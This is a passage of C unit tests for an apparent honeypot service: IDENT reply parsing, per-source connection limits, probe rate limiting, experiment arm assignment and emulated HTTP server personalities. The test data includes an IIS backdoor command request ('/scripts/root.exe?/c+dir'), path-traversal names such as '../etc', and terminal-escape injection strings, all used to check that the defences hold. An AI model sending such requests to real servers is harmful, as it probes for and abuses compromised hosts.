		{"6191, 23 : USERID : UNIX : bob\r\r\n", -1, 0, IDENT_USERID, "UNIX", "", "bob\r"},
		{"6191, 23 : USERID : UNIX : bob\rmore\n", -1, 0, IDENT_USERID, "UNIX", "", "bob\rmore"},
		{"6191, 23 : USERID : UNIX : bob\nnext line\r\n", -1, 0, IDENT_USERID, "UNIX", "", "bob"},
		{"6191, 23 : USERID : UNIX : \x1b[2J\xff\xfe<b>\r\n", -1, 0, IDENT_USERID,
		    "UNIX", "", "\x1b[2J\xff\xfe<b>"},
		/* ERROR */
		{"6191, 23 : ERROR : NO-USER\r\n", -1, 0, IDENT_ERROR, NULL, NULL, "NO-USER"},
		{"6191, 23 : ERROR : HIDDEN-USER \r\n", -1, 0, IDENT_ERROR, NULL, NULL, "HIDDEN-USER"},
		{"6191, 23 : ERROR : X-CUSTOM\n", -1, 0, IDENT_ERROR, NULL, NULL, "X-CUSTOM"},
		{"6191, 23 : error : unknown-error\r\n", -1, 0, IDENT_ERROR, NULL, NULL, "unknown-error"},
		{"6191, 23 : ERROR : NO USER\r\n", -1, 0, IDENT_MALFORMED, NULL, NULL, NULL},
		{"6191, 23 : ERROR : A:B\r\n", -1, 0, IDENT_MALFORMED, NULL, NULL, NULL},
		{"6191, 23 : ERROR :\r\n", -1, 0, IDENT_MALFORMED, NULL, NULL, NULL},
		{"6191, 23 : ERROR\r\n", -1, 0, IDENT_MALFORMED, NULL, NULL, NULL},
		/* the ports must echo the query's */
		{"6191, 24 : USERID : UNIX : wrongport\r\n", -1, 0, IDENT_MALFORMED, NULL, NULL, NULL},
		{"23, 6191 : USERID : UNIX : swapped\r\n", -1, 0, IDENT_MALFORMED, NULL, NULL, NULL},
		{"6191 23 : USERID : UNIX : nocomma\r\n", -1, 0, IDENT_MALFORMED, NULL, NULL, NULL},
		{"6191, 23x : USERID : UNIX : x\r\n", -1, 0, IDENT_MALFORMED, NULL, NULL, NULL},
		{"-6191, 23 : USERID : UNIX : x\r\n", -1, 0, IDENT_MALFORMED, NULL, NULL, NULL},
		{"+6191, 23 : USERID : UNIX : x\r\n", -1, 0, IDENT_MALFORMED, NULL, NULL, NULL},
		{", 23 : USERID : UNIX : x\r\n", -1, 0, IDENT_MALFORMED, NULL, NULL, NULL},
		{"1234567, 23 : USERID : UNIX : x\r\n", -1, 0, IDENT_MALFORMED, NULL, NULL, NULL},
		{"4294973487, 23 : USERID : UNIX : x\r\n", -1, 0, IDENT_MALFORMED, NULL, NULL, NULL},
		/* USERID missing a part */
		{"6191, 23 : USERID : UNIX\r\n", -1, 0, IDENT_MALFORMED, NULL, NULL, NULL},
		{"6191, 23 : USERID : UNIX : \r\n", -1, 0, IDENT_MALFORMED, NULL, NULL, NULL},
		{"6191, 23 : USERID : : nobody\r\n", -1, 0, IDENT_MALFORMED, NULL, NULL, NULL},
		{"6191, 23 : USERID : ,UTF-8 : nobody\r\n", -1, 0, IDENT_MALFORMED, NULL, NULL, NULL},
		{"6191, 23 : BOGUS : x\r\n", -1, 0, IDENT_MALFORMED, NULL, NULL, NULL},
		{"6191, 23\r\n", -1, 0, IDENT_MALFORMED, NULL, NULL, NULL},
		/* not an identd at all */
		{"SSH-2.0-OpenSSH_9.2\r\n", -1, 0, IDENT_MALFORMED, NULL, NULL, NULL},
		{"HTTP/1.1 400 Bad Request\r\n", -1, 0, IDENT_MALFORMED, NULL, NULL, NULL},
		{"\r\n", -1, 0, IDENT_MALFORMED, NULL, NULL, NULL},
		{"\n", -1, 0, IDENT_MALFORMED, NULL, NULL, NULL},
		/* NULs: a line holding one is malformed, wherever it is */
		{"6191, 23 : USERID : UNIX : bo\0b\r\n", 33, 0, IDENT_MALFORMED, NULL, NULL, NULL},
		{"6191, 23 : ERROR : NO\0USER\r\n", 28, 0, IDENT_MALFORMED, NULL, NULL, NULL},
		{"\0\r\n", 3, 0, IDENT_MALFORMED, NULL, NULL, NULL},
		/* no LF yet: wait for more */
		{"6191, 23 : USERID : UNIX : bob", -1, -2, IDENT_NONE, NULL, NULL, NULL},
		{"6191, 23 : USERID : UNIX : bob\r", -1, -2, IDENT_NONE, NULL, NULL, NULL},
		{"", -1, -2, IDENT_NONE, NULL, NULL, NULL},
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const char *w = cases[i].wire;
		size_t len = cases[i].len < 0 ? strlen(w) : (size_t)cases[i].len;
		ssize_t n = ident_reply_frame(w, len);
		CHECK(cases[i].frame ? n == cases[i].frame : n >= 0, "ident case %zu frames %zd", i, n);
		if (n < 0)
			continue;
		struct ident_reply r;
		enum ident_status st = ident_parse_reply(w, (size_t)n, 6191, 23, &r);
		CHECK(st == cases[i].status && r.status == st, "ident case %zu: %s", i,
		    record_ident_name(st));
		if (st != cases[i].status)
			continue;
		if (st == IDENT_USERID)
			CHECK(!strcmp(r.opsys, cases[i].a) && !strcmp(r.charset, cases[i].b) &&
			    !strcmp(r.userid, cases[i].c) && !r.error[0],
			    "ident case %zu: '%s' '%s' '%s'", i, r.opsys, r.charset, r.userid);
		if (st == IDENT_ERROR)
			CHECK(!strcmp(r.error, cases[i].c) && !r.opsys[0] && !r.userid[0],
			    "ident case %zu: '%s'", i, r.error);
		/* A malformed reply names nothing, even when it failed after its
		 * first fields parsed (the JSON line and the row must agree). */
		if (st == IDENT_MALFORMED)
			CHECK(!r.opsys[0] && !r.charset[0] && !r.userid[0] && !r.error[0],
			    "ident case %zu: malformed but '%s' '%s' '%s' '%s'", i, r.opsys,
			    r.charset, r.userid, r.error);
	}

	/* Every prefix of a reply short of its LF is incomplete. */
	const char *reply = "6191, 23 : USERID : UNIX : stjohns\r\n";
	int early = 0;
	for (size_t k = 0; k < strlen(reply); k++)
		early += ident_reply_frame(reply, k) != -2;
	CHECK(early == 0, "%d prefixes of a reply framed as done", early);

	/* Long replies: a full buffer without an LF is overlong; one byte less
	 * may still end; a long line is cut to the fields' sizes. */
	static char big[IDENT_REPLY_MAX + 2];
	memset(big, 'A', sizeof(big));
	CHECK(ident_reply_frame(big, IDENT_REPLY_MAX) == -1, "a full buffer without LF");
	CHECK(ident_reply_frame(big, IDENT_REPLY_MAX - 1) == -2, "one byte short of full");
	int head = snprintf(big, sizeof(big), "6191, 23 : USERID : %.*s : ", 100,
	    "UNIXUNIXUNIXUNIXUNIXUNIXUNIXUNIXUNIXUNIXUNIXUNIXUNIXUNIXUNIXUNIXUNIXUNIXUNIXUNIX"
	    "UNIXUNIXUNIXUNIXUNIX");
	memset(big + head, 'u', sizeof(big) - (size_t)head);
	big[IDENT_REPLY_MAX - 1] = '\n';
	ssize_t n = ident_reply_frame(big, IDENT_REPLY_MAX);
	struct ident_reply r;
	CHECK(n == IDENT_REPLY_MAX - 1, "the longest line frames: %zd", n);
	CHECK(ident_parse_reply(big, (size_t)n, 6191, 23, &r) == IDENT_USERID &&
	    strlen(r.opsys) == sizeof(r.opsys) - 1 && strlen(r.userid) == sizeof(r.userid) - 1,
	    "a long reply is cut to fit: opsys %zu, userid %zu", strlen(r.opsys),
	    strlen(r.userid));
	CHECK(ident_parse_reply(big, IDENT_REPLY_MAX + 1, 6191, 23, &r) == IDENT_MALFORMED,
	    "a line over IDENT_REPLY_MAX is malformed");
}

/* The per-source table: the key (IPv4, IPv4-mapped folded to IPv4, IPv6
 * by /64), the limit, and entries that go at zero, so that the table never
 * holds more sources than open sessions. */
static void test_source_limit(void)
{
	struct config cfg;
	struct writer writer;
	struct worker_shared sh;
	char err[CONFIG_ERR_LEN];
	struct addr v4, v4b, mapped, v6a, v6b, v6other;

	config_defaults(&cfg);
	cfg.max_conns = 100;
	cfg.max_conns_per_source = 2;
	memset(&writer, 0, sizeof(writer));
	CHECK(worker_shared_init(&sh, &cfg, &(struct handoff){.queue = &writer.queue},
	    MODE_SERVE, err, sizeof(err)) == 0,
	    "shared init: %s", err);
	addr_parse("10.0.0.1:1000", &v4);
	addr_parse("10.0.0.1:2000", &v4b);
	addr_parse("[::ffff:10.0.0.1]:3000", &mapped);
	addr_parse("[2001:db8:1:2::1]:1", &v6a);
	addr_parse("[2001:db8:1:2:ffff::9]:2", &v6b);
	addr_parse("[2001:db8:1:3::1]:1", &v6other);
	CHECK(worker_source_acquire(&sh, &v4) == LIMIT_NONE, "v4 first");
	CHECK(worker_source_acquire(&sh, &mapped) == LIMIT_NONE, "mapped is the same host");
	CHECK(worker_source_count(&sh, &v4b) == 2, "count %u", worker_source_count(&sh, &v4b));
	CHECK(worker_source_acquire(&sh, &v4b) == LIMIT_PER_SOURCE, "third from 10.0.0.1");
	CHECK(worker_source_acquire(&sh, &v6a) == LIMIT_NONE, "v6 first");
	CHECK(worker_source_acquire(&sh, &v6b) == LIMIT_NONE, "same /64");
	CHECK(worker_source_acquire(&sh, &v6a) == LIMIT_PER_SOURCE, "the /64 is full");
	CHECK(worker_source_acquire(&sh, &v6other) == LIMIT_NONE, "another /64");
	worker_source_release(&sh, &v4);
	CHECK(worker_source_acquire(&sh, &v4b) == LIMIT_NONE, "room again after a release");
	worker_source_release(&sh, &v4);
	worker_source_release(&sh, &v4);
	CHECK(worker_source_count(&sh, &v4) == 0, "gone at zero");
	worker_source_release(&sh, &v4);        /* unknown: nothing happens */
	CHECK(worker_source_count(&sh, &v4) == 0, "no underflow");

	/* Many sources come and go: counts stay exact through the deletions
	 * (backward shifts), and the table refuses only past its bound. */
	struct addr many[400];
	int refused = 0;
	for (int i = 0; i < 400; i++) {
		char text[48];
		snprintf(text, sizeof(text), "10.%d.%d.1:1", i / 200, i % 200);
		addr_parse(text, &many[i]);
		refused += worker_source_acquire(&sh, &many[i]) != LIMIT_NONE;
	}
	/* 100 max-conns + 256 slack, minus the two /64s still held. */
	CHECK(refused == 400 - (100 + 256 - 2), "refused %d of 400", refused);
	for (int i = 0; i < 400; i += 2)
		worker_source_release(&sh, &many[i]);
	int wrong = 0;
	for (int i = 0; i < 400; i++) {
		uint32_t want = i % 2 == 0 || i >= 100 + 256 - 2 ? 0 : 1;
		wrong += worker_source_count(&sh, &many[i]) != want;
	}
	CHECK(wrong == 0, "%d counts wrong after deletions", wrong);
	CHECK(worker_source_count(&sh, &v6b) == 2, "the /64 kept its count");
	worker_shared_free(&sh);
	config_free(&cfg);
}

static void test_ident_limiter(void)
{
	const uint64_t s = 1000000000ULL;
	struct ident_limiter *l = ident_limiter_new(8, 60 * s);
	struct addr a, b;
	int allowed = 0;

	addr_parse("10.0.0.1:1", &a);
	addr_parse("10.0.0.2:1", &b);
	CHECK(ident_limiter_allow(l, &a, 1 * s), "first probe");
	CHECK(!ident_limiter_allow(l, &a, 30 * s), "again within the interval");
	CHECK(ident_limiter_allow(l, &b, 30 * s), "another source");
	CHECK(ident_limiter_allow(l, &a, 62 * s), "after the interval");
	/* A full table refuses rather than forgets a fresh entry. */
	for (int i = 0; i < 1000; i++) {
		struct addr x;
		char text[32];
		snprintf(text, sizeof(text), "10.1.%d.%d:1", i / 250, i % 250);
		addr_parse(text, &x);
		allowed += ident_limiter_allow(l, &x, 63 * s);
	}
	CHECK(allowed <= 8, "a table of 8 allowed %d fresh sources", allowed);
	CHECK(!ident_limiter_allow(l, &a, 64 * s), "still limited while the table is full");
	ident_limiter_free(l);

	/* A probe never sent is forgotten; a mark from another time stays. */
	l = ident_limiter_new(8, 60 * s);
	CHECK(ident_limiter_allow(l, &a, 1 * s), "first probe");
	ident_limiter_forget(l, &a, 1 * s);
	CHECK(ident_limiter_allow(l, &a, 2 * s), "the probe never sent is forgotten");
	ident_limiter_forget(l, &a, 1 * s);
	CHECK(!ident_limiter_allow(l, &a, 3 * s), "a later probe's mark stays");
	ident_limiter_free(l);

	/* One source: an IPv4 host and its v4-mapped form; an IPv6 /64. */
	static const struct {
		const char *first, *then;
		bool again;          /* then may be probed right after first */
	} sources[] = {
		{"127.0.0.1:1", "[::ffff:127.0.0.1]:2", false},
		{"[::ffff:10.9.8.7]:1", "10.9.8.7:2", false},
		{"[2001:db8::1]:1", "[2001:db8::2]:1", false},
		{"[2001:db8::1]:1", "[2001:db8::ffff:ffff:ffff:ffff]:1", false},
		{"[2001:db8::1]:1", "[2001:db8:0:1::1]:1", true},
		{"10.0.0.1:1", "10.0.0.2:1", true},
		{"[::ffff:10.0.0.1]:1", "[::ffff:10.0.0.2]:1", true},
		{"[::10.0.0.1]:1", "10.0.0.1:1", true},
	};
	for (size_t i = 0; i < sizeof(sources) / sizeof(sources[0]); i++) {
		struct addr x, y;
		l = ident_limiter_new(64, 60 * s);
		CHECK(addr_parse(sources[i].first, &x) == 0 && addr_parse(sources[i].then, &y) == 0,
		    "source case %zu parses", i);
		CHECK(ident_limiter_allow(l, &x, 1 * s), "source case %zu: first probe", i);
		CHECK(ident_limiter_allow(l, &y, 2 * s) == sources[i].again,
		    "source case %zu: %s after %s", i, sources[i].then, sources[i].first);
		ident_limiter_free(l);
	}
}

/* A listening socket on 127.0.0.1 (never accepting when silent); returns
 * its fd and port. */
static int loopback_listener(uint16_t *port)
{
	struct sockaddr_in sin = {.sin_family = AF_INET};
	socklen_t len = sizeof(sin);
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	sin.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (fd < 0 || bind(fd, (struct sockaddr *)&sin, sizeof(sin)) < 0 || listen(fd, 8) < 0 ||
	    getsockname(fd, (struct sockaddr *)&sin, &len) < 0)
		abort();
	*port = ntohs(sin.sin_port);
	return fd;
}

/* Runs w's loop without blocking until done() or about 3 s. */
static void run_until(struct worker *w, bool (*done)(struct worker *))
{
	for (int i = 0; i < 300 && !done(w); i++) {
		uv_run(&w->loop, UV_RUN_NOWAIT);
		usleep(10000);
	}
}

static bool no_probes(struct worker *w)
{
	return list_empty(&w->probes);
}

static bool no_sessions(struct worker *w)
{
	return atomic_load(&w->shared->active) == 0;
}

/* What a probe's owner saw, for the probe's own tests. */
struct probe_seen {
	int results, hand_offs;
	enum ident_status status;
};

static void probe_seen_result(void *session, struct record_ident *res)
{
	struct probe_seen *seen = session;

	seen->results++;
	seen->status = res ? res->status : IDENT_STATUS_COUNT;
	free(res);
}

static void probe_seen_hand_off(void *owner, struct record *r)
{
	struct probe_seen *seen = owner;

	seen->hand_offs++;
	seen->status = r->ident ? r->ident->status : IDENT_STATUS_COUNT;
	record_free(r);
}

static bool probe_seen_any(void *arg)
{
	const struct probe_seen *seen = arg;

	return seen->results + seen->hand_offs > 0;
}

/* Runs loop without blocking until done(arg) or about 3 s, then lets
 * closing handles finish. */
static void run_loop_until(uv_loop_t *loop, bool (*done)(void *), void *arg)
{
	for (int i = 0; i < 300 && !done(arg); i++) {
		uv_run(loop, UV_RUN_NOWAIT);
		usleep(10000);
	}
	for (int i = 0; i < 5; i++)
		uv_run(loop, UV_RUN_NOWAIT);
}

/* The probe on a bare loop, with its owner's two callbacks and no worker
 * or session: a result while attached, the record handed on once
 * detached, nothing after a cancel, none at abort; the in-flight count
 * and the list always back to empty. */
static void test_ident_probe_callbacks(void)
{
	uv_loop_t loop;
	atomic_int inflight = 0;
	struct list_link probes;
	struct ident_limiter *always = ident_limiter_new(8, 0);
	uint16_t silent_port, closed_port;
	int silent = loopback_listener(&silent_port);
	int closed = loopback_listener(&closed_port);
	struct probe_seen seen;
	struct ident_probe *p = NULL;

	close(closed);               /* nothing listens there: refused */
	uv_loop_init(&loop);
	list_init(&probes);
	struct ident_probe_params pp = {
		.probability = 1.0, .max_inflight = 4, .inflight = &inflight,
		.timeout_ms = 300, .probes = &probes,
		.result = probe_seen_result, .hand_off = probe_seen_hand_off,
		.session = &seen, .owner = &seen,
	};
	addr_parse("127.0.0.1:40000", &pp.peer);
	addr_parse("127.0.0.1:80", &pp.local);

	/* Attached: the result goes to the session's callback. */
	memset(&seen, 0, sizeof(seen));
	pp.port = closed_port;
	pp.start_ns = pp.now_ns = uv_hrtime();
	CHECK(ident_probe_start(&loop, always, &pp, &p), "probe started");
	run_loop_until(&loop, probe_seen_any, &seen);
	CHECK(seen.results == 1 && seen.hand_offs == 0 && seen.status == IDENT_REFUSED,
	    "refused: %d results, %d hand-offs, %s", seen.results, seen.hand_offs,
	    record_ident_name(seen.status));

	/* Detached with a record: the record comes back, holding the result. */
	memset(&seen, 0, sizeof(seen));
	pp.port = silent_port;
	pp.now_ns = uv_hrtime();
	CHECK(ident_probe_start(&loop, always, &pp, &p), "probe started");
	struct record *r = calloc(1, sizeof(*r));
	ident_detach(p, r);
	run_loop_until(&loop, probe_seen_any, &seen);
	CHECK(seen.results == 0 && seen.hand_offs == 1 && seen.status == IDENT_TIMEOUT,
	    "detached: %d results, %d hand-offs, %s", seen.results, seen.hand_offs,
	    record_ident_name(seen.status));

	/* Cancelled: never calls back. Aborted: a result of none. */
	memset(&seen, 0, sizeof(seen));
	pp.now_ns = uv_hrtime();
	CHECK(ident_probe_start(&loop, always, &pp, &p), "probe started");
	ident_cancel(p);
	run_loop_until(&loop, probe_seen_any, &seen);
	CHECK(seen.results == 0 && seen.hand_offs == 0, "a cancelled probe called back");
	CHECK(ident_probe_start(&loop, always, &pp, &p), "probe started");
	ident_abort_all(&probes);
	CHECK(seen.results == 1 && seen.status == IDENT_NONE, "aborted: %s",
	    record_ident_name(seen.status));
	run_loop_until(&loop, probe_seen_any, &seen);

	/* The limits: the in-flight cap, then the limiter. */
	memset(&seen, 0, sizeof(seen));
	pp.max_inflight = 0;
	CHECK(!ident_probe_start(&loop, always, &pp, &p), "over --ident-max");
	pp.max_inflight = 4;
	struct ident_limiter *minute = ident_limiter_new(8, 60000000000ULL);
	CHECK(ident_probe_start(&loop, minute, &pp, &p), "the source's first probe");
	ident_cancel(p);
	pp.now_ns = uv_hrtime();
	CHECK(!ident_probe_start(&loop, minute, &pp, &p), "again within --ident-interval");
	run_loop_until(&loop, probe_seen_any, &seen);
	CHECK(seen.results == 0 && seen.hand_offs == 0, "a refused start called back");
	CHECK(list_empty(&probes) && atomic_load(&inflight) == 0,
	    "probes left: %d in flight", atomic_load(&inflight));
	CHECK(uv_loop_close(&loop) == 0, "a probe's handle outlived it");
	ident_limiter_free(minute);
	ident_limiter_free(always);
	close(silent);
}

/* A worker loop, not started, that probes every session's source on
 * 127.0.0.1:iport, for the IDENT ownership tests. */
static void ident_test_loop(struct worker *w, struct worker_shared *sh, struct writer *wr,
    struct config *cfg, uint16_t iport)
{
	char err[256];

	memset(wr, 0, sizeof(*wr));
	config_defaults(cfg);
	cfg->ident_probability = 1.0;
	cfg->ident_port = iport;
	cfg->ident_timeout_ms = 2000;
	CHECK(queue_init(&wr->queue, 16, 1 << 20) == 0, "queue");
	CHECK(worker_shared_init(sh, cfg, &(struct handoff){.queue = &wr->queue},
	    MODE_SERVE, err, sizeof(err)) == 0,
	    "shared: %s", err);
	CHECK(worker_init(w, sh, NULL, NULL, 0, err, sizeof(err)) == 0, "worker: %s", err);
}

/* Connects to 127.0.0.1:lport and accepts on lfd. Returns the accepted
 * non-blocking fd; the client's fd, both ends' addresses and the wall
 * clock go to the out-parameters. */
static int ident_test_accept(int lfd, uint16_t lport, int *cfd, struct addr *src,
    struct addr *dst, struct timespec *wall)
{
	struct sockaddr_in sin = {.sin_family = AF_INET, .sin_port = htons(lport)};
	struct sockaddr_storage ss;
	socklen_t sl = sizeof(ss);

	sin.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	*cfd = socket(AF_INET, SOCK_STREAM, 0);
	CHECK(connect(*cfd, (struct sockaddr *)&sin, sizeof(sin)) == 0, "connect");
	int afd = accept4(lfd, NULL, NULL, SOCK_NONBLOCK);
	getpeername(afd, (struct sockaddr *)&ss, &sl);
	addr_from_sockaddr(src, (struct sockaddr *)&ss, sl);
	sl = sizeof(ss);
	getsockname(afd, (struct sockaddr *)&ss, &sl);
	addr_from_sockaddr(dst, (struct sockaddr *)&ss, sl);
	clock_gettime(CLOCK_REALTIME, wall);
	return afd;
}

/* A session whose record cannot be built (out of memory) while its IDENT
 * probe is under way, or after the probe ended: the probe must not keep a
 * pointer to the freed session, and nothing may leak. */
static void test_ident_when_the_record_is_lost(void)
{
	static struct worker w;
	for (int finished = 0; finished < 2; finished++) {
		struct worker_shared sh;
		struct writer wr;
		struct config cfg;
		uint16_t lport, iport;
		int lfd = loopback_listener(&lport);
		int ifd = loopback_listener(&iport);

		if (finished)
			close(ifd);  /* the probe is refused at once */
		ident_test_loop(&w, &sh, &wr, &cfg, iport);
		struct addr src, dst;
		struct timespec wall;
		int cfd, afd = ident_test_accept(lfd, lport, &cfd, &src, &dst, &wall);

		session_start(&w.host, afd, 0, &src, &dst, uv_hrtime(), &wall);
		CHECK(!list_empty(&w.probes), "case %d: a probe is under way", finished);
		if (finished) {
			run_until(&w, no_probes);
			CHECK(list_empty(&w.probes), "case %d: the refused probe ended", finished);
		}
		session_test_fail_records = 1;
		close(cfd);          /* the peer leaves; its record cannot be built */
		run_until(&w, no_sessions);
		session_test_fail_records = 0;
		CHECK(atomic_load(&sh.active) == 0, "case %d: the session closed", finished);
		CHECK(list_empty(&w.probes) && atomic_load(&sh.ident_inflight) == 0,
		    "case %d: a probe outlived the session whose record was lost", finished);
		ident_abort_all(&w.probes); /* as at shutdown */
		worker_destroy(&w);
		worker_shared_free(&sh);
		queue_destroy(&wr.queue);
		config_free(&cfg);
		close(lfd);
		if (!finished)
			close(ifd);
	}
}

/* A probe that finds no fd for its socket (the fd limit) is never sent:
 * the session is not probed, and its source is not held back from a probe
 * for --ident-interval by a probe that never went out. */
static void test_ident_at_the_fd_limit(void)
{
	static struct worker w;
	struct worker_shared sh;
	struct writer wr;
	struct config cfg;
	uint16_t lport, iport;
	int lfd = loopback_listener(&lport);
	int ifd = loopback_listener(&iport);

	ident_test_loop(&w, &sh, &wr, &cfg, iport);
	struct addr src, dst;
	struct timespec wall;
	int cfd, afd = ident_test_accept(lfd, lport, &cfd, &src, &dst, &wall);

	/* The fd limit at the lowest free fd: no new fd from here on. */
	struct rlimit old, lim;
	int lowest = open("/dev/null", O_RDONLY);
	close(lowest);
	getrlimit(RLIMIT_NOFILE, &old);
	lim = old;
	lim.rlim_cur = (rlim_t)lowest;
	CHECK(lowest >= 0 && setrlimit(RLIMIT_NOFILE, &lim) == 0, "lower the fd limit");
	session_start(&w.host, afd, 0, &src, &dst, uv_hrtime(), &wall);
	setrlimit(RLIMIT_NOFILE, &old);
	CHECK(list_empty(&w.probes), "no probe without an fd");
	CHECK(ident_limiter_allow(sh.ident_limiter, &src, uv_hrtime()),
	    "the source may be probed at its next session");
	close(cfd);
	run_until(&w, no_sessions);
	CHECK(atomic_load(&sh.active) == 0 && atomic_load(&sh.ident_inflight) == 0,
	    "the session closed, no probe counted");
	ident_abort_all(&w.probes);
	worker_destroy(&w);
	worker_shared_free(&sh);
	queue_destroy(&wr.queue);
	config_free(&cfg);
	close(lfd);
	close(ifd);
}

static void test_experiment_assignment(void)
{
	struct config cfg;
	struct respond_set set;
	char err[CONFIG_ERR_LEN];
	int counts[3] = {0};

	config_defaults(&cfg);
	config_set(&cfg, "experiment", "silent:1,banner:1,tarpit:2", err, sizeof(err));
	config_set(&cfg, "experiment-salt", "unit-test", err, sizeof(err));
	CHECK(respond_build(&set, &cfg, err, sizeof(err)) == 0, "build: %s", err);
	CHECK(set.narms == 3 && set.total_weight == 4, "arms");
	for (int i = 0; i < 10000; i++) {
		struct addr a;
		char text[48];
		snprintf(text, sizeof(text), "%d.%d.%d.%d:%d", 1 + i % 200, (i * 7) % 256,
		    (i / 256) % 256, i % 256, 1024 + i);
		addr_parse(text, &a);
		int arm = respond_arm(&set, &a);
		counts[arm]++;
		/* sticky: another port, the same source, the same arm */
		snprintf(text + strlen(text) - 4, 5, "9999");
		struct addr again;
		if (addr_parse(text, &again) == 0 && respond_arm(&set, &again) != arm)
			counts[0] = -100000;
	}
	CHECK(counts[0] >= 0, "assignment is sticky per source address");
	CHECK(abs(counts[0] - 2500) < 250 && abs(counts[1] - 2500) < 250 &&
	    abs(counts[2] - 5000) < 350, "balanced: %d %d %d", counts[0], counts[1], counts[2]);
	struct addr a;
	addr_parse("192.0.2.7:1", &a);
	int first = respond_arm(&set, &a);
	respond_free(&set);
	config_set(&cfg, "experiment-salt", "another-salt", err, sizeof(err));
	respond_build(&set, &cfg, err, sizeof(err));
	int moved = 0;
	for (int i = 0; i < 100; i++) {
		char text[32];
		snprintf(text, sizeof(text), "192.0.2.%d:1", i);
		struct addr x;
		addr_parse(text, &x);
		moved += respond_arm(&set, &x) != first;
	}
	CHECK(moved > 20, "the salt changes the assignment (%d of 100 differ)", moved);
	respond_free(&set);

	config_set(&cfg, "experiment", "silent:1,bogus:1", err, sizeof(err));
	CHECK(respond_build(&set, &cfg, err, sizeof(err)) < 0 && strstr(err, "bogus"),
	    "unknown arm: %s", err);
	respond_free(&set);
	config_set(&cfg, "experiment", "silent:0", err, sizeof(err));
	CHECK(respond_build(&set, &cfg, err, sizeof(err)) < 0 && strstr(err, "weight"),
	    "zero weight: %s", err);
	respond_free(&set);
	config_free(&cfg);
}

/* The arm of an address is the HMAC over its host bytes, 4 for IPv4 and
 * v4-mapped, 16 for other IPv6: the expected arms were computed apart
 * (Python's hmac over the same bytes), so a change of the bytes hashed
 * shows here as a moved arm. */
static void test_experiment_arms_by_address(void)
{
	static const struct {
		const char *addr;
		int arm;
	} cases[] = {
		{"192.0.2.7:1", 1}, {"[::ffff:192.0.2.7]:2", 1},
		{"10.0.0.1:1", 2}, {"[::ffff:10.0.0.1]:9", 2},
		{"198.51.100.200:1", 0}, {"[::ffff:198.51.100.200]:1", 0},
		{"[2001:db8::1]:1", 2}, {"[2001:db8::2]:1", 0}, {"[2001:db8:0:1::1]:1", 1},
		{"[::1.2.3.4]:1", 1}, {"1.2.3.4:1", 2}, {"[::1]:1", 1}, {"[fe80::1]:1", 1},
	};
	struct config cfg;
	struct respond_set set;
	char err[CONFIG_ERR_LEN];

	config_defaults(&cfg);
	config_set(&cfg, "experiment", "silent:1,banner:1,tarpit:2", err, sizeof(err));
	config_set(&cfg, "experiment-salt", "unit-test", err, sizeof(err));
	CHECK(respond_build(&set, &cfg, err, sizeof(err)) == 0, "build: %s", err);
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct addr a;
		CHECK(addr_parse(cases[i].addr, &a) == 0, "arm case %zu parses", i);
		int arm = respond_arm(&set, &a);
		CHECK(arm == cases[i].arm, "arm of %s: %d, want %d", cases[i].addr, arm,
		    cases[i].arm);
	}
	respond_free(&set);
	config_free(&cfg);
}

static void test_personalities(void)
{
	struct strategy_http_persona p;
	char err[CONFIG_ERR_LEN], out[8192];
	const struct strategy_http_template *t;

	CHECK(strategy_http_load(&p, FLYPAPER_TEMPLATES_DIR, "iis5", err, sizeof(err)) == 0,
	    "load iis5: %s", err);
	t = strategy_http_route(&p, "/scripts/root.exe?/c+dir");
	CHECK(t && strstr(t->head, "200 OK") && strstr(t->body, "Directory of"), "root.exe gets a dir");
	t = strategy_http_route(&p, "/nothing-here");
	CHECK(t && strstr(t->head, "404"), "404 by default");
	t = strategy_http_route(&p, NULL);
	CHECK(t != NULL, "@timeout route");
	size_t n = strategy_http_render(t, true, false, out, sizeof(out));
	out[n] = '\0';
	CHECK(strncmp(out, "HTTP/1.1 200 OK\r\nServer: Microsoft-IIS/5.0\r\n", 44) == 0, "head: %.60s", out);
	CHECK(strstr(out, "\r\nConnection: keep-alive\r\n") && strstr(out, "\r\nDate: "), "added headers");
	char want[64];
	snprintf(want, sizeof(want), "Content-Length: %zu\r\n", t->body_len);
	CHECK(strstr(out, want) && n == (size_t)(strstr(out, "\r\n\r\n") + 4 - out) + t->body_len,
	    "length matches the body");
	n = strategy_http_render(t, false, true, out, sizeof(out));
	CHECK(n > 4 && memcmp(out + n - 4, "\r\n\r\n", 4) == 0, "HEAD has no body");
	strategy_http_unload(&p);
	CHECK(strategy_http_load(&p, "/nonexistent", "iis5", err, sizeof(err)) < 0 &&
	    strstr(err, "/nonexistent/iis5/routes"), "missing templates: %s", err);
	strategy_http_unload(&p);
	CHECK(strategy_tarpit_byte(0) == 'H' && strategy_tarpit_byte(1000000) != '\0', "tarpit stream");
}

/* A personality is a folder of the templates directory: its names are
 * checked, and what is found is what error messages list. */
static void test_personality_discovery(void)
{
	static const struct {
		const char *name;
		bool ok;
	} names[] = {
		{"iis5", true}, {"my_apache-2", true}, {"a", true},
		{"abcdefghijklmnopqrstuvwx", true}, {"abcdefghijklmnopqrstuvwxy", false},
		{"", false}, {"..", false}, {".", false}, {"a/b", false}, {"../etc", false},
		{"Apache", false}, {"a b", false}, {"caddy.v2", false}, {"x\n", false},
	};
	char dir[] = "/tmp/flypaper-unit-XXXXXX", path[256], err[CONFIG_ERR_LEN];
	char list[512] = "";
	struct config cfg;
	struct respond_set set;

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		CHECK(strategy_http_name_ok(names[i].name) == names[i].ok, "name '%s'",
		    names[i].name);

	CHECK(mkdtemp(dir) != NULL, "mkdtemp: %s", strerror(errno));
	/* caddy: routes and a template; empty: a folder with no routes;
	 * Bad.Name: a name no personality can have */
	const char *files[][2] = {
		{"caddy/routes", "* ok.http\n"},
		{"caddy/ok.http", "HTTP/1.1 200 OK\nServer: Caddy\n\nhello"},
		{"Bad.Name/routes", "* ok.http\n"},
	};
	const char *folders[] = {"caddy", "empty", "Bad.Name", "zz"};
	for (size_t i = 0; i < sizeof(folders) / sizeof(folders[0]); i++) {
		snprintf(path, sizeof(path), "%s/%s", dir, folders[i]);
		mkdir(path, 0700);
	}
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		snprintf(path, sizeof(path), "%s/%s", dir, files[i][0]);
		FILE *f = fopen(path, "w");
